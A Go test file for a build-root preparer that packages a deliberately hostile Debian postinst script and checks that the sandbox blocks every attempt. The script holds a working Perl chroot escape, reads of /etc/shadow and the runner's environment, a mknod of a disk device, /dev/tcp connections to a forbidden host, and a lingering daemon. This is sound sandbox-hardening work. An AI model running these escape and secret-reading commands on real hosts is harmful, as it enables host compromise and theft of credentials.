package buildroot_test

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/cloud-builder/cb/internal/buildroot"
	"github.com/cloud-builder/cb/internal/repo"
)

// hostilePostinst runs as a maintainer script while the native backend
// installs the root. It tries what a package from a project repository
// could try against the runner, and reports each attempt; then it fails,
// so the prepare must fail too. @FORBIDDEN@ is a host:port on the host
// that no repository allows, @RUNNER_PID@ the pid of the process that
// prepares.
const hostilePostinst = `#!/bin/bash
try() {
	name=$1; shift
	if err=$("$@" 2>&1 >/dev/null); then echo "HOSTILE $name: ESCAPED"; else echo "HOSTILE $name: blocked ($(echo "$err" | tail -n1))"; fi
}
escape='mkdir "/cb-esc"; chroot "/cb-esc" or die "chroot: $!\n"; chdir ".." for 1..64; chroot "." or die "chroot: $!\n";'
perl -e "$escape"'print(-e "/proc/@RUNNER_PID@" ? "HOSTILE probe: a chroot escape reaches the host tree, as uid $< of its user namespace\n" : "HOSTILE probe: no way out of the chroot\n")'
try "mknod of a disk device" mknod /cb-hostile-disk b 8 0
try "write a host file after a chroot escape" perl -e "$escape"'open(F, ">", "/etc/cb-hostile-escaped") or die "open: $!\n"; print F "x"; close(F) or die "close: $!\n"'
try "read a host secret after a chroot escape" perl -e "$escape"'open(F, "<", "/etc/shadow") or die "open: $!\n"; my $l = <F>; defined $l or die "read: $!\n"'
try "read the runner's environment after a chroot escape" perl -e "$escape"'open(F, "<", "/proc/@RUNNER_PID@/environ") or die "open: $!\n"; my $l = <F>; defined $l or die "read: $!\n"'
try "connect to a host service" bash -c 'exec 3<>/dev/tcp/@FORBIDDEN_HOST@/@FORBIDDEN_PORT@'
try "fetch a forbidden repository through the proxy" bash -c '
	p=${http_proxy#http://}; p=${p%/}
	[ -n "$p" ] || { echo "no proxy in the environment" >&2; exit 1; }
	exec 3<>/dev/tcp/${p%:*}/${p##*:} || exit 1
	printf "GET http://@FORBIDDEN@/dists/x/InRelease HTTP/1.0\r\n\r\n" >&3
	read -r status <&3; case "$status" in *" 200 "*) exit 0;; esac; echo "proxy: $status" >&2; exit 1'
# A daemon that would outlive the prepare.
setsid sleep 86399 </dev/null >/dev/null 2>&1 &
echo "HOSTILE done"
exit 1
`

// hostileAttempts is how many "try" lines hostilePostinst has.
const hostileAttempts = 6

// A package whose maintainer script attacks the runner during prepare:
// every attempt is blocked, the prepare fails with the script's failure,
// and nothing is left behind (no partial root, no mount, no process).
func TestPrepareHostileMaintainerScript(t *testing.T) {
	requireRootTools(t, "mmdebstrap", "dpkg-deb", "gpg", "gpgconf")
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	for _, p := range []string{"/etc/cb-hostile-escaped"} {
		os.Remove(p)
	}

	// A forbidden service on the host: whatever reaches it is counted.
	var hits atomic.Int32
	forbidden := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hits.Add(1) }))
	defer forbidden.Close()
	fhost, fport, _ := net.SplitHostPort(forbidden.Listener.Addr().String())

	// The project repository, signed as the collector signs it, holding
	// the hostile package.
	s, err := repo.NewSigner(ctx, filepath.Join(t.TempDir(), "gnupg"), "", slog.Default())
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	collector := t.TempDir()
	if err := s.ExportPublicKey(ctx, collector); err != nil {
		t.Fatal(err)
	}
	r, err := repo.Open(collector, "projects/T/bookworm")
	if err != nil {
		t.Fatal(err)
	}
	script := strings.NewReplacer("@FORBIDDEN@", forbidden.Listener.Addr().String(),
		"@FORBIDDEN_HOST@", fhost, "@FORBIDDEN_PORT@", fport, "@RUNNER_PID@", strconv.Itoa(os.Getpid())).Replace(hostilePostinst)
	deb := hostileDeb(t, script)
	data, err := os.ReadFile(deb)
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(data)
	f := repo.File{Name: "all/" + filepath.Base(deb), Size: int64(len(data)), SHA256: hex.EncodeToString(sum[:])}
	if _, err := r.Install(repo.Deb, repo.Build{Project: "projects/T/cb-hostile", Name: "cb-hostile", Arch: "x86_64",
		RequestID: "hostile", Files: []repo.File{f}}, map[string]string{f.Name: deb}); err != nil {
		t.Fatal(err)
	}
	if err := (&repo.Publisher{Signer: s}).Publish(ctx, r); err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(http.FileServer(http.Dir(collector)))
	defer srv.Close()

	// A package whose buildroot needs the hostile package.
	pkgDir := t.TempDir()
	if err := os.MkdirAll(filepath.Join(pkgDir, ".cb"), 0o755); err != nil {
		t.Fatal(err)
	}
	desc, err := os.ReadFile(filepath.Join(debianExample, ".cb", "build_root.kiwi"))
	if err != nil {
		t.Fatal(err)
	}
	image := regexp.MustCompile(`(?s)<packages type="image">.*?</packages>`).
		ReplaceAllString(string(desc), `<packages type="image"><package name="cb-hostile"/></packages>`)
	for name, content := range map[string]string{
		".cb/build_root.kiwi": image,
		"debian/control":      "Source: cb-victim\nBuild-Depends: cb-hostile\n\nPackage: cb-victim\nArchitecture: any\nDescription: x\n x\n",
	} {
		os.MkdirAll(filepath.Dir(filepath.Join(pkgDir, name)), 0o755)
		if err := os.WriteFile(filepath.Join(pkgDir, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}

	root := t.TempDir()
	tg := newTarget(t, root, "projects/T/cb-victim")
	var log syncBuffer
	opts := buildroot.Options{
		CacheDir:        filepath.Join(root, ".cache", "buildroot"),
		Backend:         buildroot.BackendNative,
		Log:             &log,
		Logger:          slog.New(slog.NewTextHandler(&log, nil)),
		ProjectRepos:    &buildroot.ProjectRepos{URL: srv.URL, KeyFile: filepath.Join(collector, repo.PublicKeyBinary)},
		NoDownloadCache: true,
	}
	_, err = buildroot.Prepare(ctx, opts, pkgDir, tg)
	out := log.String()
	if err == nil {
		t.Fatalf("prepare with a failing maintainer script succeeded:\n%s", out)
	}
	if !strings.Contains(err.Error(), "mmdebstrap") {
		t.Errorf("error does not say which step failed: %v", err)
	}
	if !strings.Contains(out, "root created as") && !strings.Contains(out, "--mode=unshare") {
		t.Errorf("root not installed as the build's id range:\n%s", out)
	}
	if !strings.Contains(out, "HOSTILE done") {
		t.Fatalf("the maintainer script did not run to its end:\n%s", out)
	}
	blocked := strings.Count(out, ": blocked (")
	t.Logf("hostile maintainer script: %d of %d attempts blocked\n%s", blocked, hostileAttempts, grepLines(out, "HOSTILE"))
	if strings.Contains(out, ": ESCAPED") || blocked != hostileAttempts {
		t.Errorf("attempts not blocked (%d of %d blocked):\n%s", blocked, hostileAttempts, grepLines(out, "HOSTILE"))
	}
	if _, err := os.Stat("/etc/cb-hostile-escaped"); err == nil {
		os.Remove("/etc/cb-hostile-escaped")
		t.Error("the maintainer script wrote a host file")
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("the forbidden service was reached %d times", n)
	}
	// Nothing left behind: no partial root, no mount, no process.
	left, _ := filepath.Glob(filepath.Join(opts.CacheDir, "*", "tmp-*"))
	if len(left) > 0 {
		t.Errorf("partial roots left behind: %v", left)
	}
	assertNoMountsBelow(t, root)
	assertNoMountsBelow(t, buildroot.BindBase)
	if pids := processesWith("86399"); len(pids) > 0 {
		t.Errorf("the maintainer script's daemon outlived the prepare: pids %v", pids)
	}
}

// hostileDeb builds an architecture-independent package with the given
// postinst.
func hostileDeb(t *testing.T, postinst string) string {
	t.Helper()
	tree := t.TempDir()
	if err := os.MkdirAll(filepath.Join(tree, "DEBIAN"), 0o755); err != nil {
		t.Fatal(err)
	}
	control := "Package: cb-hostile\nVersion: 1.0\nArchitecture: all\nMaintainer: Test <test@example.org>\n" +
		"Depends: perl-base, bash\nDescription: attacks the runner from its maintainer script\n x\n"
	if err := os.WriteFile(filepath.Join(tree, "DEBIAN", "control"), []byte(control), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(tree, "DEBIAN", "postinst"), []byte(postinst), 0o755); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(t.TempDir(), "cb-hostile_1.0_all.deb")
	if b, err := exec.Command("dpkg-deb", "--root-owner-group", "-Zgzip", "--build", tree, out).CombinedOutput(); err != nil {
		t.Fatalf("dpkg-deb: %v\n%s", err, b)
	}
	return out
}

func grepLines(s, substr string) string {
	var out []string
	for _, l := range strings.Split(s, "\n") {
		if strings.Contains(l, substr) {
			out = append(out, l)
		}
	}
	return strings.Join(out, "\n")
}

// processesWith lists the pids whose command line contains arg.
func processesWith(arg string) []string {
	var out []string
	cmdlines, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, p := range cmdlines {
		b, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		for _, a := range strings.Split(string(b), "\x00") {
			if a == arg {
				out = append(out, strings.Split(p, "/")[2])
			}
		}
	}
	return out
}
